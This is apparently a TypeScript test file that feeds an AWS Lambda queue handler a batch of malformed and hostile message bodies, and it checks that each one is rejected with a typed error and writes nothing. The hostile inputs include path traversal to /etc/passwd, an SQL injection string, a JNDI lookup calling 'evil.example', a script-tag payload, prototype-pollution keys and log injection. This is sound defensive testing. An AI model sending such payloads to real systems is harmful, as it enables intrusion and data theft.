import type { SQSEvent, SQSRecord } from 'aws-lambda';
import { afterAll, describe, expect, it } from 'vitest';
import { createStepHandler } from '../../lib/runtime/step-handler.js';
import { sqsRecord, tenantRecord } from '../helpers/memory-worker.js';
import { Tally } from './record.js';
import { buildWorker, deliverAll, expectValidLedger } from './support.js';

const tally = new Tally('hostile_input');
afterAll(() => tally.record());

const TYPED = new Set(['InvalidMessageError', 'PayloadTooLargeError', 'UnknownTenantError', 'TenantDisabledError', 'UnknownHarnessError', 'TenantMismatchError', 'RunNotFoundError']);
const startBody = (o: Record<string, unknown> = {}): string => JSON.stringify({ type: 'start_run', tenantId: 'acme', harness: 'report', ...o });
const contBody = (o: Record<string, unknown> = {}): string => JSON.stringify({ type: 'continue_run', tenantId: 'acme', runId: 'r-x', afterSeq: 1, ...o });

/** Bodies that must be acknowledged with a typed error and write nothing. */
const hostile: ReadonlyArray<readonly [string, string]> = [
  ['not JSON', '{"type": "start_run",'],
  ['empty body', ''],
  ['JSON null', 'null'],
  ['JSON array', '[{"type":"start_run","tenantId":"acme","harness":"report"}]'],
  ['JSON number', '42'],
  ['JSON string', '"start_run"'],
  ['byte-order mark before JSON', `\uFEFF${startBody()}`],
  ['missing type', JSON.stringify({ tenantId: 'acme', harness: 'report' })],
  ['unknown type', startBody({ type: 'delete_run' })],
  ['unsupported version', startBody({ version: 2 })],
  ['tenantId as number', startBody({ tenantId: 7 })],
  ['empty tenantId', startBody({ tenantId: '' })],
  ['unknown field', startBody({ admin: true })],
  ['capabilities smuggled in the message', startBody({ capabilities: ['reports:publish'] })],
  ['__proto__ key', `{"type":"start_run","tenantId":"acme","harness":"report","__proto__":{"admin":true}}`],
  ['constructor.prototype key', startBody({ constructor: { prototype: { admin: true } } })],
  ['input as array', startBody({ input: ['x'] })],
  ['input as string', startBody({ input: 'topic' })],
  ['negative budget', startBody({ budgetUsdLimit: -1 })],
  ['zero budget', startBody({ budgetUsdLimit: 0 })],
  ['huge budget', startBody({ budgetUsdLimit: 1e300 })],
  ['budget as string', startBody({ budgetUsdLimit: '1' })],
  ['negative afterSeq', contBody({ afterSeq: -1 })],
  ['fractional afterSeq', contBody({ afterSeq: 1.5 })],
  ['afterSeq beyond 2^53', '{"type":"continue_run","tenantId":"acme","runId":"r-x","afterSeq":9007199254740993}'],
  ['afterSeq 1e308', contBody({ afterSeq: 1e308 })],
  ['afterSeq as string', contBody({ afterSeq: '1' })],
  ['continue_run without runId', JSON.stringify({ type: 'continue_run', tenantId: 'acme', afterSeq: 1 })],
  ['path traversal in runId', startBody({ runId: '../../etc/passwd' })],
  ['path traversal in harness', startBody({ harness: '../report' })],
  ['SQL injection in runId', startBody({ runId: "r' OR 1=1 --" })],
  ['JNDI lookup in tenantId', startBody({ tenantId: '${jndi:ldap://evil.example/a}' })],
  ['script tag in harness', startBody({ harness: '<script>alert(1)</script>' })],
  ['NUL in runId', startBody({ runId: 'r\u0000x' })],
  ['newline (log injection) in tenantId', startBody({ tenantId: 'acme\nlevel=admin' })],
  ['right-to-left override in runId', startBody({ runId: 'r\u202Etxt.exe' })],
  ['zero-width space in tenantId', startBody({ tenantId: 'ac\u200Bme' })],
  ['lone surrogate in runId', `{"type":"start_run","tenantId":"acme","harness":"report","runId":"r\\ud800"}`],
  ['emoji in runId', startBody({ runId: 'run-🔥' })],
  ['fullwidth letters in tenantId', startBody({ tenantId: 'ａｃｍｅ' })],
  ['DynamoDB key prefix in runId', startBody({ runId: 'tenant#acme' })],
  ['runId of 129 characters', startBody({ runId: `r${'x'.repeat(128)}` })],
  ['oversized body (> 64 KiB)', startBody({ input: { topic: 'x'.repeat(70 * 1024) } })],
  ['unknown harness', startBody({ harness: 'no_such_harness', runId: 'r-unknown-harness' })],
  ['unknown tenant', startBody({ tenantId: 'nobody', runId: 'r-nobody' })],
  ['disabled tenant', startBody({ tenantId: 'dormant', runId: 'r-dormant' })],
  ["start_run with another tenant's run id", startBody({ runId: 'globex-run' })],
  ["continue_run on another tenant's run id", contBody({ runId: 'globex-run', afterSeq: 1 })],
  ['continue_run on a run that does not exist', contBody({ runId: 'r-missing', afterSeq: 4 })],
];

const withGroup = (record: SQSRecord, group: string): SQSRecord => ({ ...record, attributes: { ...record.attributes, MessageGroupId: group } });

describe('step handler under hostile input', () => {
  describe('when one batch mixes malformed or malicious bodies with valid start_run messages', () => {
    it('acknowledges each bad record with a typed logged error, writes nothing for it, and completes the valid runs', async () => {
      // Prepare
      const w = await buildWorker();
      await w.tenants.put(tenantRecord('dormant', { enabled: false }));
      await deliverAll(w, [{ type: 'start_run', tenantId: 'globex', runId: 'globex-run', harness: 'report' }]);
      const globexBefore = await w.store.loadEvents('globex', 'globex-run');
      const valid = ['ok-1', 'ok-2', 'ok-3'];
      const records = [
        ...hostile.map(([, body], i) => withGroup(sqsRecord(body, `bad-${i}`), `g-bad-${i}`)),
        ...valid.map((runId) => withGroup(sqsRecord(startBody({ runId, input: { topic: 'hostile' } }), `good-${runId}`), runId)),
      ];
      const event: SQSEvent = { Records: records };
      // Act
      const response = await createStepHandler(w.deps)(event);
      // Assess
      expect(hostile.length).toBeGreaterThanOrEqual(30);
      expect(response.batchItemFailures).toEqual([]);
      for (const [i, [label]] of hostile.entries()) {
        await tally.check(async () => {
          const logged = w.logs.filter((l) => l.extra['messageId'] === `bad-${i}`);
          expect(logged.map((l) => l.level), label).toEqual(['error']);
          expect(TYPED.has(String(logged[0]?.extra['error'])), `${label}: ${String(logged[0]?.extra['error'])}`).toBe(true);
        });
      }
      const acmeRuns = (await w.store.listRuns('acme')).runs.map((r) => r.runId).sort();
      expect(acmeRuns).toEqual(valid);
      for (const tenantId of ['nobody', 'dormant']) expect((await w.store.listRuns(tenantId)).runs).toEqual([]);
      expect(await w.store.loadEvents('globex', 'globex-run')).toEqual(globexBefore);
      await deliverAll(w, []);
      for (const runId of valid) {
        await tally.check(async () => {
          await expectValidLedger(w.store, 'acme', runId);
          expect((await w.store.getHead('acme', runId)).status).toBe('completed');
        });
      }
      expect(await w.outbox.deliveries()).toBe(valid.length);
    });
  });
});
